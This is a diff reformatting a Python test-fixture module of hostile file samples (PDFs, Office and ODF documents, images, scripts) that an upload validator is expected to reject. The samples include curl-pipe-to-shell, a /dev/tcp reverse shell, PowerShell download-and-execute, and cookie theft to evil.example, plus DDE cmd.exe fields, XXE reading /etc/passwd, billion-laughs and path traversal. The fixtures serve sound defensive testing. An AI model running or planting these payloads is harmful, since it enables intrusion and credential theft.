@@ -52,7 +52,9 @@ def _link(action: Callable[[], pikepdf.Dictionary]) -> Callable[[], bytes]:
 
 
 def _pdf_names_javascript(document: pikepdf.Pdf) -> None:
-    tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("run"), document.make_indirect(_javascript())]))
+    tree = pikepdf.Dictionary(
+        Names=pikepdf.Array([pikepdf.String("run"), document.make_indirect(_javascript())])
+    )
     document.Root.Names = pikepdf.Dictionary(JavaScript=document.make_indirect(tree))
 
 
@@ -93,7 +95,9 @@ def _pdf_attachment_annotation(document: pikepdf.Pdf) -> None:
 
 
 def _pdf_rich_media(document: pikepdf.Pdf) -> None:
-    annotation = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 50, 50])
+    annotation = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 50, 50]
+    )
     document.pages[0].Annots = pikepdf.Array([document.make_indirect(annotation)])
 
 
@@ -105,7 +109,9 @@ def _pdf_chained_script(document: pikepdf.Pdf) -> None:
 
 
 def _pdf_javascript_in_object_stream() -> bytes:
-    return files.pdf(lambda document: setattr(document.Root, "OpenAction", _javascript()), object_streams=True)
+    return files.pdf(
+        lambda document: setattr(document.Root, "OpenAction", _javascript()), object_streams=True
+    )
 
 
 def raw_pdf(*objects: bytes) -> bytes:
@@ -148,7 +154,9 @@ PDF_HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
     "pdf-javascript-obfuscated-name": (_pdf_obfuscated_name, "plan.pdf", reasons.PDF_ACTIVE),
     "pdf-javascript-chained": (lambda: files.pdf(_pdf_chained_script), "plan.pdf", reasons.PDF_ACTIVE),
     "pdf-opens-web-address": (
-        _open_action(lambda: pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://evil.example/"))),
+        _open_action(
+            lambda: pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://evil.example/"))
+        ),
         "plan.pdf",
         reasons.PDF_ACTIVE,
     ),
@@ -158,12 +166,16 @@ PDF_HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
         reasons.PDF_ACTIVE,
     ),
     "pdf-submit-form-on-open": (
-        _open_action(lambda: pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/"))),
+        _open_action(
+            lambda: pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/"))
+        ),
         "plan.pdf",
         reasons.PDF_ACTIVE,
     ),
     "pdf-remote-go-to-on-open": (
-        _open_action(lambda: pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\evil\\share\\x.pdf"))),
+        _open_action(
+            lambda: pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\evil\\share\\x.pdf"))
+        ),
         "plan.pdf",
         reasons.PDF_ACTIVE,
     ),
@@ -173,7 +185,11 @@ PDF_HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
         reasons.PDF_ACTIVE,
     ),
     "pdf-link-to-local-file": (
-        _link(lambda: pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("file:///C:/Windows/System32/calc.exe"))),
+        _link(
+            lambda: pikepdf.Dictionary(
+                S=pikepdf.Name.URI, URI=pikepdf.String("file:///C:/Windows/System32/calc.exe")
+            )
+        ),
         "plan.pdf",
         reasons.PDF_ACTIVE,
     ),
@@ -188,7 +204,11 @@ PDF_HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
     "pdf-user-password": (_pdf_encrypted, "plan.pdf", reasons.PROTECTED),
     "pdf-truncated": (lambda: files.PDF[: len(files.PDF) // 2], "plan.pdf", reasons.PDF_DAMAGED),
     "pdf-junk-after-end": (lambda: files.PDF + b"junk that is not PDF", "plan.pdf", reasons.PDF_DAMAGED),
-    "pdf-header-then-web-page": (lambda: b"%PDF-1.7\n" + PAGE_HTML + b"\n%%EOF\n", "plan.pdf", reasons.MARKUP),
+    "pdf-header-then-web-page": (
+        lambda: b"%PDF-1.7\n" + PAGE_HTML + b"\n%%EOF\n",
+        "plan.pdf",
+        reasons.MARKUP,
+    ),
     "pdf-web-page-after-end": (lambda: files.PDF + PAGE_HTML, "plan.pdf", reasons.PDF_DAMAGED),
     "pdf-web-page-in-comment": (
         lambda: files.PDF.replace(b"%PDF-1.3\n", b"%PDF-1.3\n%" + PAGE_HTML + b"\n", 1),
@@ -202,7 +222,10 @@ PDF_HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
 
 
 def _word_settings_relationships(*entries: tuple[str, str, str]) -> dict[str, bytes]:
-    return {"word__settings_dot_xml": b"<w:settings/>", "word___rels__settings_dot_xml_dot_rels": files.relationships(*entries)}
+    return {
+        "word__settings_dot_xml": b"<w:settings/>",
+        "word___rels__settings_dot_xml_dot_rels": files.relationships(*entries),
+    }
 
 
 def _word_relationships(*entries: tuple[str, str, str]) -> dict[str, bytes]:
@@ -264,7 +287,11 @@ def _encrypted_member() -> bytes:
 MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
 OOXML_HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
     "docm-renamed": (
-        lambda: files.ooxml(DOCX, main_type=MACRO_MAIN, word__vbaProject_dot_bin=bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)),
+        lambda: files.ooxml(
+            DOCX,
+            main_type=MACRO_MAIN,
+            word__vbaProject_dot_bin=bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504),
+        ),
         "report.docx",
         reasons.MACROS,
     ),
@@ -273,7 +300,11 @@ OOXML_HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
         "marks.xlsx",
         reasons.MACROS,
     ),
-    "vba-project-member": (lambda: files.docx(word__vbaProject_dot_bin=b"Attribute VB_Name"), "report.docx", reasons.MACROS),
+    "vba-project-member": (
+        lambda: files.docx(word__vbaProject_dot_bin=b"Attribute VB_Name"),
+        "report.docx",
+        reasons.MACROS,
+    ),
     "remote-template": (
         lambda: files.docx(
             **_word_settings_relationships(
@@ -286,14 +317,20 @@ OOXML_HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
     "msdt-link": (
         lambda: files.docx(
             **_word_relationships(
-                (f"{RELATIONSHIPS}/oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x", "External")
+                (
+                    f"{RELATIONSHIPS}/oleObject",
+                    "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x",
+                    "External",
+                )
             )
         ),
         "report.docx",
         reasons.EXTERNAL,
     ),
     "external-image": (
-        lambda: files.docx(**_word_relationships((f"{RELATIONSHIPS}/image", "http://evil.example/pixel.png", "External"))),
+        lambda: files.docx(
+            **_word_relationships((f"{RELATIONSHIPS}/image", "http://evil.example/pixel.png", "External"))
+        ),
         "report.docx",
         reasons.EXTERNAL,
     ),
@@ -303,7 +340,9 @@ OOXML_HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
         reasons.EXTERNAL,
     ),
     "internal-target-with-scheme": (
-        lambda: files.docx(**_word_relationships((f"{RELATIONSHIPS}/frame", "ms-msdt:/id PCWDiagnostic", ""))),
+        lambda: files.docx(
+            **_word_relationships((f"{RELATIONSHIPS}/frame", "ms-msdt:/id PCWDiagnostic", ""))
+        ),
         "report.docx",
         reasons.EXTERNAL,
     ),
@@ -318,7 +357,10 @@ OOXML_HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
     "billion-laughs-in-properties": (
         lambda: files.docx(
             docProps__core_dot_xml=b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
-            + b"".join(b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10) for n in range(1, 10))
+            + b"".join(
+                b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
+                for n in range(1, 10)
+            )
             + b"]><cp:coreProperties>&lol9;</cp:coreProperties>"
         ),
         "report.docx",
@@ -336,23 +378,53 @@ OOXML_HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
         reasons.TAMPERED,
     ),
     "xml-in-utf-16": (
-        lambda: files.docx(customXml__item1_dot_xml='<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode("utf-16")),
+        lambda: files.docx(
+            customXml__item1_dot_xml='<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode(
+                "utf-16"
+            )
+        ),
         "report.docx",
         reasons.TAMPERED,
     ),
-    "member-out-of-the-folder": (lambda: files.docx(**{"..__..__evil_dot_txt": b"x"}), "report.docx", reasons.TAMPERED),
-    "member-with-absolute-path": (lambda: files.docx(**{"__etc__evil": b"x"}), "report.docx", reasons.TAMPERED),
+    "member-out-of-the-folder": (
+        lambda: files.docx(**{"..__..__evil_dot_txt": b"x"}),
+        "report.docx",
+        reasons.TAMPERED,
+    ),
+    "member-with-absolute-path": (
+        lambda: files.docx(**{"__etc__evil": b"x"}),
+        "report.docx",
+        reasons.TAMPERED,
+    ),
     "member-link": (_symlink, "report.docx", reasons.TAMPERED),
     "member-twice": (_duplicate_member, "report.docx", reasons.TAMPERED),
-    "program-as-image": (lambda: files.docx(word__media__image1_dot_png=files.EXECUTABLE), "report.docx", reasons.EMBEDDED_PROGRAM),
-    "script-inside": (lambda: files.docx(word__embeddings__run_dot_js=b"new ActiveXObject('WScript.Shell')"), "report.docx", reasons.EMBEDDED_PROGRAM),
-    "java-archive-inside": (lambda: files.docx(**{"META-INF__MANIFEST_dot_MF": b"Main-Class: Evil\n"}), "report.docx", reasons.EMBEDDED_PROGRAM),
+    "program-as-image": (
+        lambda: files.docx(word__media__image1_dot_png=files.EXECUTABLE),
+        "report.docx",
+        reasons.EMBEDDED_PROGRAM,
+    ),
+    "script-inside": (
+        lambda: files.docx(word__embeddings__run_dot_js=b"new ActiveXObject('WScript.Shell')"),
+        "report.docx",
+        reasons.EMBEDDED_PROGRAM,
+    ),
+    "java-archive-inside": (
+        lambda: files.docx(**{"META-INF__MANIFEST_dot_MF": b"Main-Class: Evil\n"}),
+        "report.docx",
+        reasons.EMBEDDED_PROGRAM,
+    ),
     "ole-object": (
-        lambda: files.docx(word__embeddings__oleObject1_dot_bin=bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)),
+        lambda: files.docx(
+            word__embeddings__oleObject1_dot_bin=bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
+        ),
         "report.docx",
         reasons.MACROS,
     ),
-    "activex-control": (lambda: files.docx(word__activeX__activeX1_dot_xml=b"<ax:ocx/>"), "report.docx", reasons.MACROS),
+    "activex-control": (
+        lambda: files.docx(word__activeX__activeX1_dot_xml=b"<ax:ocx/>"),
+        "report.docx",
+        reasons.MACROS,
+    ),
     "web-page-chunk": (
         lambda: files.docx(
             word__afchunk_dot_htm=PAGE_HTML,
@@ -362,45 +434,67 @@ OOXML_HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
         reasons.MACROS,
     ),
     "dde-field": (
-        lambda: files.docx(main=_field('<w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>')),
+        lambda: files.docx(
+            main=_field(
+                '<w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
+            )
+        ),
         "report.docx",
         reasons.EXTERNAL,
     ),
     "dde-field-split-over-runs": (
-        lambda: files.docx(main=_field("<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd.exe \"/c calc\"</w:instrText></w:r>")),
+        lambda: files.docx(
+            main=_field(
+                '<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd.exe "/c calc"</w:instrText></w:r>'
+            )
+        ),
         "report.docx",
         reasons.EXTERNAL,
     ),
     "dde-simple-field": (
-        lambda: files.docx(main=files.word_document('<w:p><w:fldSimple w:instr=" DDE cmd.exe &quot;/c calc&quot;"/></w:p>')),
+        lambda: files.docx(
+            main=files.word_document('<w:p><w:fldSimple w:instr=" DDE cmd.exe &quot;/c calc&quot;"/></w:p>')
+        ),
         "report.docx",
         reasons.EXTERNAL,
     ),
     "dde-simple-field-single-quotes": (
-        lambda: files.docx(main=files.word_document("<w:p><w:fldSimple w:instr=' DDE \"cmd.exe\" \"/k calc\" '/></w:p>")),
+        lambda: files.docx(
+            main=files.word_document('<w:p><w:fldSimple w:instr=\' DDE "cmd.exe" "/k calc" \'/></w:p>')
+        ),
         "report.docx",
         reasons.EXTERNAL,
     ),
     "excel-4-macro-sheet": (
         lambda: files.ooxml(
             XLSX,
-            xl__macrosheets__sheet1_dot_xml=b"<xm:macrosheet><sheetData><row><c><f>EXEC(\"calc\")</f></c></row></sheetData></xm:macrosheet>",
+            xl__macrosheets__sheet1_dot_xml=b'<xm:macrosheet><sheetData><row><c><f>EXEC("calc")</f></c></row></sheetData></xm:macrosheet>',
         ),
         "marks.xlsx",
         reasons.MACROS,
     ),
     "dde-in-a-formula": (
-        lambda: files.ooxml(XLSX, xl__worksheets__sheet1_dot_xml=b"<worksheet><sheetData><row><c><f>cmd|' /C calc'!A0</f></c></row></sheetData></worksheet>"),
+        lambda: files.ooxml(
+            XLSX,
+            xl__worksheets__sheet1_dot_xml=b"<worksheet><sheetData><row><c><f>cmd|' /C calc'!A0</f></c></row></sheetData></worksheet>",
+        ),
         "marks.xlsx",
         reasons.EXTERNAL,
     ),
     "dde-external-link": (
-        lambda: files.ooxml(XLSX, xl__externalLinks__externalLink1_dot_xml=b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'),
+        lambda: files.ooxml(
+            XLSX,
+            xl__externalLinks__externalLink1_dot_xml=b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
+        ),
         "marks.xlsx",
         reasons.EXTERNAL,
     ),
     "macro-document-inside": (
-        lambda: files.docx(word__embeddings__Sheet_dot_xlsx=files.ooxml(XLSX, main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
+        lambda: files.docx(
+            word__embeddings__Sheet_dot_xlsx=files.ooxml(
+                XLSX, main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"
+            )
+        ),
         "report.docx",
         reasons.MACROS,
     ),
@@ -425,8 +519,16 @@ def _odf_content(body: bytes) -> bytes:
 
 
 ODF_HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
-    "odf-basic-macro": (lambda: files.odf(Basic__Standard__Module1_dot_xml=b"<script:module/>"), "report.odt", reasons.MACROS),
-    "odf-python-script": (lambda: files.odf(Scripts__python__run_dot_py=b"import os"), "report.odt", reasons.MACROS),
+    "odf-basic-macro": (
+        lambda: files.odf(Basic__Standard__Module1_dot_xml=b"<script:module/>"),
+        "report.odt",
+        reasons.MACROS,
+    ),
+    "odf-python-script": (
+        lambda: files.odf(Scripts__python__run_dot_py=b"import os"),
+        "report.odt",
+        reasons.MACROS,
+    ),
     "odf-event-listener": (
         lambda: files.odf(
             content=_odf_content(
@@ -439,7 +541,9 @@ ODF_HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
         reasons.MACROS,
     ),
     "odf-dtd": (
-        lambda: files.odf(content=b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>'),
+        lambda: files.odf(
+            content=b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>'
+        ),
         "report.odt",
         reasons.TAMPERED,
     ),
@@ -455,12 +559,20 @@ ODF_HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
         reasons.EXTERNAL,
     ),
     "odf-dde": (
-        lambda: files.odf(content=_odf_content(b'<office:body><office:text><text:dde-connection-decl text:name="x"/></office:text></office:body>')),
+        lambda: files.odf(
+            content=_odf_content(
+                b'<office:body><office:text><text:dde-connection-decl text:name="x"/></office:text></office:body>'
+            )
+        ),
         "report.odt",
         reasons.EXTERNAL,
     ),
     "odf-password": (
-        lambda: files.odf(**{"META-INF__manifest_dot_xml": b'<manifest:manifest><manifest:file-entry><manifest:encryption-data/></manifest:file-entry></manifest:manifest>'}),
+        lambda: files.odf(
+            **{
+                "META-INF__manifest_dot_xml": b"<manifest:manifest><manifest:file-entry><manifest:encryption-data/></manifest:file-entry></manifest:manifest>"
+            }
+        ),
         "report.odt",
         reasons.PROTECTED,
     ),
@@ -478,7 +590,12 @@ def _png_claiming(width: int, height: int) -> bytes:
     """A well-formed PNG whose header claims `width` x `height` one-bit pixels."""
     header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
     rows = zlib.compress(b"\x00" * 1024)
-    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", rows) + _png_chunk(b"IEND", b"")
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + _png_chunk(b"IHDR", header)
+        + _png_chunk(b"IDAT", rows)
+        + _png_chunk(b"IEND", b"")
+    )
 
 
 def _jpeg_claiming(width: int, height: int) -> bytes:
@@ -508,11 +625,21 @@ def _png_bad_crc() -> bytes:
     return bytes(content)
 
 
-JAR = files.zip_of({"META-INF/MANIFEST.MF": b"Main-Class: Evil\n", "Evil.class": bytes.fromhex("cafebabe") + bytes(8)})
+JAR = files.zip_of(
+    {"META-INF/MANIFEST.MF": b"Main-Class: Evil\n", "Evil.class": bytes.fromhex("cafebabe") + bytes(8)}
+)
 IMAGE_HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
     "png-truncated": (lambda: files.png()[:-30], "photo.png", reasons.IMAGE_DAMAGED),
-    "jpeg-truncated": (lambda: files.image("JPEG", size=(400, 300))[:-200], "photo.jpg", reasons.IMAGE_DAMAGED),
-    "webp-truncated": (lambda: files.image("WEBP", size=(200, 200))[:-40], "photo.webp", reasons.IMAGE_DAMAGED),
+    "jpeg-truncated": (
+        lambda: files.image("JPEG", size=(400, 300))[:-200],
+        "photo.jpg",
+        reasons.IMAGE_DAMAGED,
+    ),
+    "webp-truncated": (
+        lambda: files.image("WEBP", size=(200, 200))[:-40],
+        "photo.webp",
+        reasons.IMAGE_DAMAGED,
+    ),
     "png-bad-checksum": (_png_bad_crc, "photo.png", reasons.IMAGE_DAMAGED),
     "png-7000-square": (lambda: _png_claiming(7000, 7000), "photo.png", reasons.IMAGE_TOO_MANY_PIXELS),
     "png-12000-square": (lambda: _png_claiming(12000, 12000), "photo.png", reasons.IMAGE_TOO_MANY_PIXELS),
@@ -521,13 +648,21 @@ IMAGE_HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
     "webp-16000-square": (lambda: _webp_claiming(16000, 16000), "photo.webp", reasons.IMAGE_TOO_MANY_PIXELS),
     "png-then-web-page": (lambda: files.png() + PAGE_HTML, "photo.png", reasons.IMAGE_TRAILING_DATA),
     "jpeg-then-web-page": (lambda: files.image("JPEG") + PAGE_HTML, "photo.jpg", reasons.IMAGE_TRAILING_DATA),
-    "webp-then-web-page": (lambda: files.image("WEBP") + PAGE_HTML, "photo.webp", reasons.IMAGE_TRAILING_DATA),
+    "webp-then-web-page": (
+        lambda: files.image("WEBP") + PAGE_HTML,
+        "photo.webp",
+        reasons.IMAGE_TRAILING_DATA,
+    ),
     "png-web-page-in-text-chunk": (
         lambda: files.image("PNG", pnginfo=_png_text("Comment", PAGE_HTML.decode())),
         "photo.png",
         reasons.IMAGE_TRAILING_DATA,
     ),
-    "jpeg-web-page-in-comment": (lambda: files.image("JPEG", comment=PAGE_HTML), "photo.jpg", reasons.IMAGE_TRAILING_DATA),
+    "jpeg-web-page-in-comment": (
+        lambda: files.image("JPEG", comment=PAGE_HTML),
+        "photo.jpg",
+        reasons.IMAGE_TRAILING_DATA,
+    ),
     "png-then-java-archive": (lambda: files.png() + JAR, "photo.png", reasons.IMAGE_TRAILING_DATA),
     "jpeg-then-java-archive": (lambda: files.image("JPEG") + JAR, "photo.jpg", reasons.IMAGE_TRAILING_DATA),
     "jpeg-magic-then-web-page": (lambda: b"\xff\xd8\xff\xe0" + PAGE_HTML, "photo.jpg", reasons.IMAGE_DAMAGED),
@@ -545,28 +680,52 @@ IMAGE_HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
 
 
 TEXT_HOSTILE_SAMPLES: dict[str, tuple[bytes, str]] = {
-    "rtf-with-object": (b"{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000}}}", reasons.RTF),
+    "rtf-with-object": (
+        b"{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000}}}",
+        reasons.RTF,
+    ),
     "rtf": (b"{\\rtf1\\ansi Plan lekcji}", reasons.RTF),
     "shell-script": (b"#!/bin/sh\ncurl https://evil.example/x | sh\n", reasons.PROGRAM),
     "shell-pipe-to-shell": (b"curl -s https://evil.example/install.sh | bash\n", reasons.PROGRAM),
     "shell-reverse-shell": (b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", reasons.PROGRAM),
     "shell-download-and-run": (b"cd /tmp\nwget http://evil.example/a\nchmod +x a\n./a\n", reasons.PROGRAM),
-    "jscript": (b'var shell = new ActiveXObject("WScript.Shell");\nshell.Run("calc.exe");\n', reasons.PROGRAM),
+    "jscript": (
+        b'var shell = new ActiveXObject("WScript.Shell");\nshell.Run("calc.exe");\n',
+        reasons.PROGRAM,
+    ),
     "javascript": (b'document.location = "https://evil.example/?c=" + document.cookie;\n', reasons.PROGRAM),
     "vbscript": (b'Set objShell = CreateObject("WScript.Shell")\nobjShell.Run "calc.exe"\n', reasons.PROGRAM),
     "vbscript-without-objects": (b"Dim x\nSet x = y\nSub Main()\nEnd Sub\n", reasons.PROGRAM),
     "batch": (b"@echo off\r\nstart calc.exe\r\n", reasons.PROGRAM),
     "batch-without-echo-off": (b"cmd /c powershell -enc SQBFAFgA\r\n", reasons.PROGRAM),
-    "powershell": (b"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/p.ps1')\n", reasons.PROGRAM),
-    "powershell-web-request": (b"Invoke-WebRequest -Uri http://evil.example/a.exe -OutFile $env:TEMP\\a.exe\n", reasons.PROGRAM),
+    "powershell": (
+        b"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/p.ps1')\n",
+        reasons.PROGRAM,
+    ),
+    "powershell-web-request": (
+        b"Invoke-WebRequest -Uri http://evil.example/a.exe -OutFile $env:TEMP\\a.exe\n",
+        reasons.PROGRAM,
+    ),
     "python": (b'import os\nos.system("id")\n', reasons.PROGRAM),
-    "perl": (b'use Socket;\n$i="10.0.0.1";\nsocket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));\n', reasons.PROGRAM),
+    "perl": (
+        b'use Socket;\n$i="10.0.0.1";\nsocket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));\n',
+        reasons.PROGRAM,
+    ),
     "applescript": (b'do shell script "curl https://evil.example | sh"\n', reasons.PROGRAM),
-    "desktop-launcher": (b"[Desktop Entry]\nType=Application\nName=Plan\nExec=sh -c 'curl evil.example|sh'\n", reasons.SHORTCUT),
-    "internet-shortcut": (b"[InternetShortcut]\r\nURL=file:///C:/Windows/System32/calc.exe\r\n", reasons.SHORTCUT),
+    "desktop-launcher": (
+        b"[Desktop Entry]\nType=Application\nName=Plan\nExec=sh -c 'curl evil.example|sh'\n",
+        reasons.SHORTCUT,
+    ),
+    "internet-shortcut": (
+        b"[InternetShortcut]\r\nURL=file:///C:/Windows/System32/calc.exe\r\n",
+        reasons.SHORTCUT,
+    ),
     "shell-command-file": (b"[Shell]\r\nCommand=2\r\nIconFile=\\\\evil\\share\\x.ico\r\n", reasons.SHORTCUT),
     "autorun": (b"[autorun]\r\nopen=setup.exe\r\n", reasons.SHORTCUT),
-    "registry": (b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\x]\r\n", reasons.SHORTCUT),
+    "registry": (
+        b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\x]\r\n",
+        reasons.SHORTCUT,
+    ),
     "web-query": (b"WEB\n1\nhttps://evil.example/q\n", reasons.SHORTCUT),
     "html-image-error-handler": (b"Our notes <img src=x onerror=alert(1)>", reasons.MARKUP),
     "html-link-to-script": (b'<a href="javascript:alert(1)">plan</a>', reasons.MARKUP),
